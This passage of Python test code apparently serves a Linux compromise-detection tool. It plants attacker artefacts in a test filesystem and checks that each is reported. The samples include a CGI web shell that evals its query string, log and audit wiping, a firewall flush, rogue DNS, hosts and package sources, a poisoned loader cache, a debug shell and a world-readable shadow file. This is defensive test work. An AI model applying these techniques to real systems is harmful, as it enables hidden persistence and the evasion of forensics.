                root / "usr/lib/cgi-bin/s.sh",
                '#!/bin/sh\necho Content-type: text/plain\necho\neval "$QUERY_STRING"\n',
                0o755,
            ),
            heavy % "%/s.sh",
        ),
        (
            "prepended php",
            lambda: put(root / "var/www/html/.user.ini", "auto_prepend_file=/var/www/html/img/x.png\n"),
            start % ("web start", "program = '/var/www/html/img/x.png'"),
        ),
        (
            "htaccess handler",
            lambda: put(root / "var/www/html/img/.htaccess", "AddType application/x-httpd-php .png\n"),
            "SELECT 1 FROM trace WHERE kind IN ('setting','autostart') AND path LIKE '%img/.htaccess%'",
        ),
    ]


def hiding(root):
    """Logs, histories, defences, names; and what lies ready to be taken."""
    return [
        (
            "cleared wtmp",
            lambda: put(root / "var/log/wtmp", b""),
            "SELECT 1 FROM finding_view WHERE path LIKE '%/var/log/wtmp'",
        ),
        ("failed logon zeroed", lambda: zero_record(root / "var/log/btmp"), heavy % "%/btmp"),
        ("lastlog emptied", lambda: put(root / "var/log/lastlog", b""), found % "%/lastlog"),
        ("auth.log emptied", lambda: put(root / "var/log/auth.log", b""), found % "%/auth.log"),
        (
            "cut journal",
            lambda: [os.truncate(p, p.stat().st_size // 2) for p in (root / "var/log/journal").rglob("*.journal")],
            "SELECT 1 FROM finding_view WHERE path LIKE '%.journal'",
        ),
        (
            "history to null",
            lambda: replace_by_link(root / "root/.bash_history", "/dev/null"),
            heavy % "%.bash_history",
        ),
        (
            "logger masked",
            lambda: replace_by_link(root / "etc/systemd/system/rsyslog.service", "/dev/null"),
            heavy % "%rsyslog.service",
        ),
        ("audit rules deleted", lambda: put(root / "etc/audit/rules.d/u.rules", "-D\n-e 0\n"), weak % "%u.rules%"),
        (
            "no journal",
            lambda: put(root / "etc/systemd/journald.conf.d/u.conf", "[Journal]\nStorage=none\n"),
            weak % "%journald.conf.d/u.conf%",
        ),
        (
            "rsyslog discards",
            lambda: put(root / "etc/rsyslog.d/00-u.conf", 'auth,authpriv.* stop\n:programname, isequal, "sshd" ~\n'),
            weak % "%rsyslog.d/00-u.conf%",
        ),
        (
            "firewall emptied",
            lambda: put(root / "etc/nftables.conf", "#!/usr/sbin/nft -f\nflush ruleset\n"),
            "SELECT 1 FROM trace WHERE kind='setting' AND what LIKE 'firewall%' AND technique IS NOT NULL",
        ),
        (
            "resolver",
            lambda: put(root / "etc/resolv.conf", "nameserver 203.0.113.9\n"),
            "SELECT 1 FROM trace WHERE kind = 'setting' AND what = 'dns server' AND command LIKE '%203.0.113.9%'",
        ),
        (
            "host of updates",
            lambda: put(root / "etc/hosts", "203.0.113.9 deb.debian.org\n", append=True),
            "SELECT 1 FROM trace WHERE kind = 'setting' AND what = 'hosts entry' AND path LIKE '%/etc/hosts%'",
        ),
        (
            "package source",
            lambda: put(root / "etc/apt/sources.list.d/u.list", "deb [trusted=yes] http://203.0.113.9/deb ./\n"),
            "SELECT 1 FROM trace WHERE kind = 'setting' AND what = 'package source' AND technique IS NOT NULL",
        ),
        (
            "root certificate",
            lambda: put(
                root / "usr/local/share/ca-certificates/u.crt",
                "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n",
            ),
            "SELECT 1 FROM trace WHERE kind = 'setting' AND what = 'root certificate'",
        ),
        (
            "staged archive",
            lambda: staged(root / "var/tmp/.cache/d.tar.gz"),
            "SELECT 1 FROM finding_view WHERE path LIKE '%/d.tar.gz'",
        ),
        ("archive in dev/shm", lambda: staged(root / "dev/shm/b.tgz"), found % "%/b.tgz"),
        ("archive in fonts", lambda: staged(root / "usr/share/fonts/.d/c.tar.gz"), found % "%/c.tar.gz"),
        ("archive in web root", lambda: staged(root / "var/www/html/images/e.tar.gz"), found % "%/e.tar.gz"),
    ]


def files(root):
    """What stands in the table, told at its own path."""
    return [
        (name, lambda path=path, text=text, mode=mode: put(root / path, text, mode),
         start % (what, f"path LIKE '%/{path}%'") if what else weak % f"%/{path}%")
        for name, path, text, mode, what in FILES
    ]


def named(root):
    """Settings of programs that no decoder knows: told because they name a file elsewhere."""
    return [
        (f"named in {path}", lambda path=path, text=text: put(root / path, text), found % f"%/{path}")
        for path, text in NAMED
    ]


def poison_cache(root):
    """The loader's cache leads to a library elsewhere."""
    name, path = b"libz.so.1\0", b"/opt/upd/libz.so.1\0"
    entry = struct.pack("<iIIIQ", 1, 72, 72 + len(name), 0, 0)
    head = b"glibc-ld.so.cache1.1" + struct.pack("<II", 1, len(name + path)) + bytes(20)
    put(root / "etc/ld.so.cache", head + entry + name + path)


def owners(root):
    """What another than root may change."""
    def own(path, user, group, mode=None):
        os.chown(root / path, user, group)
        if mode:
            (root / path).chmod(mode)
    if os.geteuid():
        return []
    owned = "SELECT 1 FROM finding_view WHERE rule = 'kanshiki.not-roots-own' AND path LIKE '%%/%s'"
    return [
        ("program owned by a user", lambda: own("usr/bin/stat", 1001, 1001), owned % "usr/bin/stat"),
        ("program for a group to write", lambda: own("usr/bin/tac", 0, 1001, 0o775), owned % "usr/bin/tac"),
        ("unit owned by a user", lambda: own("usr/lib/systemd/system/cron.service", 1001, 1001),
         owned % "system/cron.service"),
        ("rules of sudo owned by a user",
         lambda: (put(root / "etc/sudoers.d/own", "# nothing\n", 0o440), own("etc/sudoers.d/own", 1001, 1001)),
         owned % "sudoers.d/own"),
    ]


def modes(root):
    """Bits of files, and an empty one. Last, for others write to the same files."""
    hwcaps = "usr/lib/x86_64-linux-gnu/glibc-hwcaps/x86-64-v3/libc.so.6"
    return [
        ("library before the system's", lambda: put(root / hwcaps, elf_of(root) + b"h"), found % f"%/{hwcaps}"),
        (
            "lingering user",
            lambda: put(root / "var/lib/systemd/linger/ann", ""),
            start % ("lingering user", "name = 'ann'"),
        ),
        ("cache of the loader", lambda: poison_cache(root),
         start % ("library path", "program = '/opt/upd/libz.so.1'")),
        ("alternative of the site", lambda: link(root / "etc/alternatives/pager2", "/usr/local/bin/pg"),
         start % ("program link", "program = '/usr/local/bin/pg'")),
        ("shell without a logon",
         lambda: (put(root / "usr/lib/systemd/system/debug-shell.service", "[Service]\nExecStart=/bin/bash\n")
                  if not (root / "usr/lib/systemd/system/debug-shell.service").exists() else None,
                  link(root / "etc/systemd/system/sysinit.target.wants/debug-shell.service",
                       "/lib/systemd/system/debug-shell.service")),
         rule % "open-shell"),
        ("supervised at the top", lambda: put(root / "service/v/run", "#!/bin/sh\nexec /opt/upd/top\n", 0o755),
         program % "/service/v/run"),
        ("passwords for all to read", lambda: (root / "etc/shadow").chmod(0o644), rule % "readable-secret"),
        (
            "program for all to write",
            lambda: (root / "usr/bin/tail").chmod(0o757),
            "SELECT 1 FROM finding_view WHERE rule = 'kanshiki.open-to-all' AND path LIKE '%/usr/bin/tail'",
        ),
        (
            "setgid of a package's program",
            lambda: (root / "usr/bin/wc").chmod(0o2755),
            "SELECT 1 FROM finding_view WHERE rule = 'kanshiki.rights-given' AND path LIKE '%/usr/bin/wc'",
        ),
    ]


def plants(root):
    """All that can be planted there: a small machine lacks some of the programs that are altered."""
    groups = (programs, services, jobs, logins, environments, web, hiding, files, named, modes, owners)
    absent = {name for name, path in NEEDED.items() if not (root / path).exists()}
    return [plant for group in groups for plant in group(root) if plant[0] not in absent]
